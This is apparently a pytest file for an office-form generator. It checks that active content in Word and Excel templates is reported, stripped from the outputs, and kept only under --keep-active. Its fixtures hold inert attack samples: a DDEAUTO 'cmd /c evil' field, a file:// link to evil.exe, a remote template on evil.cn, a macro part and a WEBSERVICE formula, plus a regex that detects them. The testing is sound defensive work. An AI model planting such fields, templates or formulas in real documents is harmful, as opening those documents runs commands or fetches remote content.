"""What runs a program or reads from elsewhere in a template is told, and goes into no form unless that is asked for."""

from __future__ import annotations

import re
import zipfile
from typing import TYPE_CHECKING

import pytest
from active_samples import default, linked
from command_line import GOOD
from sheet import members, sheet
from validate_ooxml import problems
from word import cell, docx, field, paragraph, part, row, run, section, table, with_part

if TYPE_CHECKING:
    from pathlib import Path

    from command_line import Office

WORD, SHEET = "templates/docx/表.docx", "templates/xlsx/表.xlsx"
ADVICE = "；请在模板里删去，确实要留的用 --keep-active 生成"
KEPT = "照 --keep-active 原样留在成表里"
ACTIVE = re.compile(rb"DDEAUTO|WEBSERVICE|attachedTemplate|vbaProject|file:|evil|oleObject")
BINARY = "application/vnd.ms-office.vbaProject"


def word_template() -> bytes:
    """A template of Word with a field, a link, a remote template and macros."""
    link = f'<w:hyperlink r:id="l">{run("附件")}</w:hyperlink>'
    content = docx(
        "{{ 标题 }}",
        table(
            row("指标", "值"),
            row("{% for 行 in 指标 %}{{ 行.三级 }}", cell(paragraph("{{ 行.指标值 }}{% endfor %}"))),
            row(cell(paragraph(field("DDEAUTO cmd /c evil", "存着的"))), cell(paragraph(link))),
        ),
        "",
        section(),
    )
    return linked(
        content,
        "word/document.xml",
        "l hyperlink ! file:///C:/evil.exe",
        "t attachedTemplate ! http://evil.cn/a.dotm",
        "m vbaProject vbaProject.bin",
        parts={"word/vbaProject.bin": b"evil"},
        types=default("bin", BINARY),
    )


def sheet_template() -> bytes:
    """A template of Excel with a formula that reads from the web."""
    data = sheet(["{{ 标题 }}", "值"], ["占位", "占位"])
    formula = "<f>WEBSERVICE(&quot;http://evil.cn&quot;)</f><v>5</v>"
    xml = re.sub(r'<c r="B2".*?</c>', f'<c r="B2">{formula}</c>', members(data)["xl/worksheets/sheet1.xml"])
    return linked(data, "xl/workbook.xml", parts={"xl/worksheets/sheet1.xml": xml})


def told(*, keeps: bool = False) -> list[str]:
    """The warnings of both templates, in a build that ``keeps`` what they are of or in one that does not."""
    return [f"{source}: 警告 [T054] {does}，{KEPT if keeps else left + ADVICE}" for source, does, left in FOUND]


# Each thing that the templates hold: where, what it does, what is left of it.
FOUND = [
    (WORD, "附加的模板“http://evil.cn/a.dotm”：打开时会从别处读取", "成表里不带"),
    (WORD, "宏（VBA）：会运行程序", "成表里不带"),
    (
        f"{WORD}: 表1 第3行 第1列",
        "域“DDEAUTO cmd /c evil”：打开时会运行别的程序",
        "成表里只留它存着的内容“存着的”",
    ),
    (
        f"{WORD}: 表1 第3行 第2列",
        "超链接“file:///C:/evil.exe”：不是网页或邮箱，点了会打开别的文件或程序",
        "成表里只留文字，不带链接",
    ),
    (
        f"{SHEET}: 工作表“表” B2",
        '公式“=WEBSERVICE("http://evil.cn")”：会连网、运行程序或读取别的文件',
        "成表里只留它存着的结果“5”",
    ),
]


@pytest.fixture
def templates(office: Office) -> Office:
    office.put(WORD, word_template())
    office.put(SHEET, sheet_template())
    office.project(GOOD)
    return office


def active_members(folder: Path) -> list[str]:
    """The parts of all forms that hold something active."""
    found = []
    for path in sorted(folder.rglob("*市.*")):
        if path.suffix == ".pdf":
            assert b"/URI" not in path.read_bytes()
            continue
        with zipfile.ZipFile(path) as archive:
            found += [f"{path.name}/{name}" for name in sorted(archive.namelist()) if ACTIVE.search(archive.read(name))]
    return found


def test_both_commands_name_it_with_its_place(templates: Office) -> None:
    checked = templates.run("template", "check", "表")
    assert (checked.status, checked.messages) == (0, told())
    built = templates.build("--to", "docx,xlsx,pdf")
    assert built.status == 0
    assert [message for message in built.messages if "[T054]" in message] == told()


def test_forms_do_not_hold_it_and_are_valid(templates: Office) -> None:
    templates.build("--to", "docx,xlsx,pdf", "--book")
    made = templates.made()
    assert made == [f"项目/{name}.{kind}" for name in ("乙市", "合订本", "甲市") for kind in ("docx", "pdf", "xlsx")]
    assert active_members(templates.folder / "output") == []
    files = [templates.folder / "output" / name for name in made if not name.endswith(".pdf")]
    assert {path.name: found for path in files if (found := problems(path))} == {}


def test_it_is_kept_where_that_is_asked_for_and_said(templates: Office) -> None:
    built = templates.build("--to", "docx,xlsx", "--keep-active", "--only", "甲市")
    assert built.status == 0
    assert [message for message in built.messages if "[T054]" in message] == told(keeps=True)
    assert active_members(templates.folder / "output") == [
        "甲市.docx/[Content_Types].xml",
        "甲市.docx/word/_rels/document.xml.rels",
        "甲市.docx/word/document.xml",
        "甲市.docx/word/vbaProject.bin",
        "甲市.xlsx/xl/worksheets/sheet1.xml",
    ]


def test_forms_are_made_again_once_the_option_changes(templates: Office) -> None:
    kept = "--keep-active"
    for options, holds in (((), False), ((), False), ((kept,), True), ((kept,), True), ((), False)):
        templates.build("--to", "docx,xlsx", *options)
        assert bool(active_members(templates.folder / "output")) is holds


def test_the_option_changes_nothing_of_a_template_without_active_content(office: Office) -> None:
    office.project(GOOD)
    office.build()
    before = {name: (office.folder / "output" / name).read_bytes() for name in office.made()}
    built = office.build("--keep-active")
    assert {name: (office.folder / "output" / name).read_bytes() for name in office.made()} == before
    assert "没有变化" in built.results[-1] + "".join(built.messages)


def test_a_returned_form_that_may_run_something_is_read_and_told(office: Office) -> None:
    office.project(GOOD)
    office.build()
    returned = (office.folder / "output/项目/甲市.docx").read_bytes()
    field_code = field("DDE cmd evil", "≥1家")
    xml = part(returned).replace(run("≥1家"), field_code)
    assert field_code in xml
    office.put("交回/甲市.docx", with_part(returned, "word/document.xml", xml))
    read = office.run("read", "交回", "--project", "data/项目.yaml")
    what = "里面有会运行程序或读取别处的内容（域“DDE cmd evil”），读回时不理会；用 Word、Excel 打开以前请核实来历"
    assert read.messages == [f"交回/甲市.docx: 警告 [T054] {what}"]
    assert read.status == 0
